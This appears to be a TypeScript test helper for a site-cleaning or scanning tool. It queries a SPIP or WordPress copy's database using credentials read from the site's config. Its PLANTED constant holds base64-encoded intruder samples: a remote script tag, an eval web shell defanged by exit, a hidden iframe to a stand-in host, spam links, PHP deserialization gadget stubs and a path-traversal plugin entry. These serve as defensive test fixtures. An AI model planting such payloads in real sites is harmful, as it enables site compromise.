import { run } from './run.ts'

export type SqlRow = readonly (string | number | null)[]

/**
 * Asks the database of a copy of a site, as the site itself would log in: SPIP on SQLite or MySQL, WordPress. Gives the rows of each
 * statement. Several statements are one transaction.
 */
export async function askRows(
  root: string,
  statements: readonly (readonly [sql: string, ...values: readonly (string | null)[]])[],
): Promise<SqlRow[][]> {
  const code = `
    [$root, $statements] = json_decode(stream_get_contents(STDIN), true);
    if (is_file("$root/wp-config.php")) {
      preg_match_all("/define\\(\\s*'DB_(\\w+)',\\s*'([^']*)'/", file_get_contents("$root/wp-config.php"), $said);
      $own = array_combine($said[1], $said[2]);
      [$host, $port] = explode(':', $own['HOST'] . ':3306');
      [$user, $password, $name, $type] = [$own['USER'], $own['PASSWORD'], $own['NAME'], 'mysql'];
    } else {
      preg_match("/spip_connect_db\\(([^)]*)\\)/", file_get_contents("$root/config/connect.php"), $call);
      preg_match_all("/'([^']*)'/", $call[1], $said);
      [$host, $port, $user, $password, $name, $type] = $said[1];
    }
    $place = strncmp($type, 'sqlite', 6) === 0 ? "sqlite:$root/config/bases/$name.sqlite" : "mysql:host=$host;port=$port;dbname=$name;charset=utf8mb4";
    $base = new PDO($place, $user, $password, [PDO::ATTR_ERRMODE => PDO::ERRMODE_EXCEPTION]);
    if (strncmp($type, 'sqlite', 6) !== 0) { $base->exec("SET sql_mode='NO_ENGINE_SUBSTITUTION'"); }
    $base->beginTransaction();
    $out = [];
    foreach ($statements as $statement) {
      $asked = $base->prepare(array_shift($statement));
      $asked->execute($statement);
      $out[] = $asked->columnCount() > 0 ? $asked->fetchAll(PDO::FETCH_NUM) : [];
    }
    $base->commit();
    echo json_encode($out, JSON_INVALID_UTF8_SUBSTITUTE);`
  const as = { uid: process.getuid?.() ?? 0, gid: process.getgid?.() ?? 0 }
  return JSON.parse(await run(process.env.PHP ?? 'php', ['-r', code], { input: JSON.stringify([root, statements]), as }))
}

/** Every row of every table of the site, by table. */
export async function allRows(root: string, prefix: string): Promise<Map<string, string[]>> {
  const isFile = await askRows(root, [["SELECT name FROM sqlite_master WHERE type='table'"]]).catch(() => undefined)
  const names = (isFile ?? (await askRows(root, [['SHOW TABLES']])))[0]?.map(([name]) => String(name)) ?? []
  const tables = names.filter((name) => name.startsWith(prefix)).sort()
  const rows = await askRows(
    root,
    tables.map((name) => [`SELECT * FROM ${name}`]),
  )
  return new Map(tables.map((name, i) => [name, (rows[i] ?? []).map((row) => JSON.stringify(row)).sort()]))
}

const text = (base64: string): string => Buffer.from(base64, 'base64').toString('utf8')

/** What an intruder writes. Nothing of it does anything: code ends where it begins, hosts are nobody's. */
export const PLANTED = {
  script: text('PHNjcmlwdCBzcmM9Imh0dHA6Ly8xODUuMTIuNy45L2EuanMiPjwvc2NyaXB0Pg=='),
  php: text('PD9waHAgZXhpdDsgZXZhbCgkX1BPU1RbImMiXSk7ID8+'),
  openPhp: text('PD9waHAgZXhpdDsgZXZhbCgkX1BPU1RbImMiXSk7'),
  frame: text('PGlmcmFtZSBzcmM9Imh0dHBzOi8vdy5ldmlsLmV4YW1wbGUvIiB3aWR0aD0iMSIgaGVpZ2h0PSIxIj48L2lmcmFtZT4='),
  links: text(
    'PGRpdiBzdHlsZT0icG9zaXRpb246YWJzb2x1dGU7bGVmdDotOTk5OXB4Ij48YSBocmVmPSJodHRwczovL2NoZWFwLXBpbGxzLmV4YW1wbGUvIj5idXkgdmlhZ3JhPC9hPiA8YSBocmVmPSJodHRwczovL3Nsb3RzLmV4YW1wbGUvIj5zbG90czwvYT48L2Rpdj4=',
  ),
  filter: text('I0hUVFBfSEVBREVSe1gtU3BpcC1GaWx0cmU6IHh4fQ=='),
  object: text('TzoyODoiTW9ub2xvZ1xIYW5kbGVyXEdyb3VwSGFuZGxlciI6MTp7czoxOiJhIjtpOjE7fQ=='),
  wordpressObject: text('TzozMToiR3V6emxlSHR0cFxDb29raWVcRmlsZUNvb2tpZUphciI6MTp7czoxOiJhIjtpOjE7fQ=='),
  plugin: text(
    'czozOiJaWloiO2E6Mzp7czozOiJkaXIiO3M6MTQ6Ii4uL0lNRy9qcGcvenp6IjtzOjg6ImRpcl90eXBlIjtzOjEyOiJfRElSX1BMVUdJTlMiO3M6Mzoibm9tIjtzOjE6IloiO30=',
  ),
} as const
